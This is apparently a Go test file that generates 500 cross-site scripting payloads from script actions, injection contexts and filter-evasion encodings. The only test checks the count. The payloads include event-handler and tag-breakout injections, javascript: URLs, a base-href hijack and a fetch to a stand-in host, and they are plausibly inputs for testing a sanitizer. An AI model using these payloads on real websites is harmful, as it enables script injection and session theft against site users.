package main

import (
	"html"
	"net/url"
	"strings"
	"testing"
)

// deeds of script that a payload would do: set the mark that the browser is asked for, open a
// dialog, write to the console, ask another host, load the page again.
var payloadDeeds = []string{
	`window.pwned=1`, `alert(document.domain)`, `console.error('pwned',window.pwned=1)`, `fetch('//203.0.113.1/'+(window.pwned=1))`, `(function(){top.pwned=1;confirm(1)})()`,
}

// payloadForms are ways to have it run, X standing for the deed.
var payloadForms = []string{
	`<script>X</script>`, `<img src=x onerror="X">`, `"><svg onload="X">`, `'><details open ontoggle='X'>x</details>`, `</textarea><script>X</script>`,
	`</title></style></script><script>X</script>`, `</select></option><img src=x onerror=X>`, `" autofocus onfocus="X" x="`, `' onmouseover='X' tabindex=1 autofocus onfocus='X`, `javascript:X`,
	`<a href="javascript:X" id=main>go</a>`, `<iframe srcdoc="<script>parent.X</script>"></iframe>`, `<form action="javascript:X"><button autofocus onfocus=X>`, `{{X}}`, `${X}`,
	`--><img src=x onerror=X><!--`, `]]><svg/onload=X>`, `<svg><animate onbegin="X" attributeName=x dur=1s>`, `<input type=image src=x onerror="X">`, `<video><source onerror="X"></video>`,
	`<base href="//203.0.113.1/"><script src="x.js"></script><b onclick="X">`, `<object data="javascript:X"></object>`, `<math><a xlink:href="javascript:X">x</a></math>`, `</td></tr></table><script>X</script>`, `<meta http-equiv="refresh" content="0;url=javascript:X">`,
}

// payloadCoats are ways to get it past somebody who looks for it.
var payloadCoats = []func(string) string{
	func(s string) string { return s },
	func(s string) string {
		return strings.NewReplacer("script", "sCRipt", "img", "IMG", "svg", "SvG", "onload", "OnLoad").Replace(s)
	},
	html.EscapeString,
	url.QueryEscape,
}

// payloads are all of them, each once.
func payloads() (list []string) {
	for _, coat := range payloadCoats {
		for _, form := range payloadForms {
			for _, deed := range payloadDeeds {
				list = append(list, coat(strings.ReplaceAll(form, "X", deed)))
			}
		}
	}
	return list
}

func TestThereAreFiveHundredPayloads(t *testing.T) {
	t.Parallel()
	if n := len(payloads()); n != 500 {
		t.Errorf("there are %d", n)
	}
}
